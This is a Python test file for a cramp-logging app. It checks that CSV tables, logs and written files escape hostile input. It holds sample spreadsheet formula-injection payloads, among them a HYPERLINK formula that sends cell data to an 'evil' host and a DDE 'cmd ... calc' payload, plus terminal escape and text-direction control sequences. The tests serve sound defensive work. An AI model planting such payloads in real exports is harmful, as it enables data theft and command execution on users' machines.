"""Hostile text is inert in tables, calendars, logs and whatever is written to a file."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import polars as pl
import pytest

from unclench.app.terminal import csv_of, write
from unclench.door.inert import cell, uncelled
from unclench.trial.log_writing import Entry, append
from unclench.trial.spasm_log import parse

TODAY = dt.date(2026, 5, 4)
FORMULAS = (
    '=HYPERLINK("http://evil/?x="&A1,"see")',
    "+SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@import",
    "\t=1",
)
NUMBERS = ("-5", "+3.5", "-1,200", "1e-5", "-3%", "", "'tis")
EVIL = "\x1b]0;evil\x07 \u202egnp \ud800\r\nBEGIN:VEVENT\x9b"


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula_and_the_text_comes_back(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert uncelled(cell(text)) == text


@pytest.mark.parametrize(
    "text", ["-5", "+3.5", "-1,200", "1e-5", "-3 %".replace(" ", ""), "", "'tis"]
)
def test_numbers_and_words_stay(text: str) -> None:
    assert cell(text) == text == uncelled(text)


def test_a_table_of_a_cohort_holds_no_formula() -> None:
    table = pl.DataFrame({"person": [*FORMULAS, None, "-7"], "p": [0.5] * 7})
    rows = list(csv.reader(io.StringIO(csv_of(table))))
    assert [r[0] for r in rows[1:]] == [*(f"'{f}" for f in FORMULAS), "", "-7"]
    assert [r[1] for r in rows[1:]] == ["0.5"] * 7


def test_what_is_written_to_a_file_is_as_inert_as_on_the_screen(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(f"a{EVIL}b", tmp_path / "out.json")
    write(f"a{EVIL}b")
    text = (tmp_path / "out.json").read_text("utf-8")
    assert text == capsys.readouterr().out.removesuffix("\n")
    assert not set(text) & set("\x1b\x07\u202e\x9b\r\ud800")


def test_a_log_keeps_what_was_noted_and_holds_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "log.csv"
    for n, text in enumerate(FORMULAS[:4]):
        day = TODAY - dt.timedelta(n)
        append(path, Entry(day, "calf", doing=text, took=f"{text} 1"), TODAY)
    written = path.read_text("utf-8")
    rows = list(csv.DictReader(io.StringIO(written)))
    assert all(r["doing"][0] == r["took"][0] == "'" for r in rows)
    days = parse(written, "log.csv", TODAY).days
    noted = [days[TODAY - dt.timedelta(n)] for n in range(4)]
    assert [d.cramps[0].doing for d in noted] == list(FORMULAS[:4])
    assert [d.took for d in noted] == [(f"{t} 1",) for t in FORMULAS[:4]]
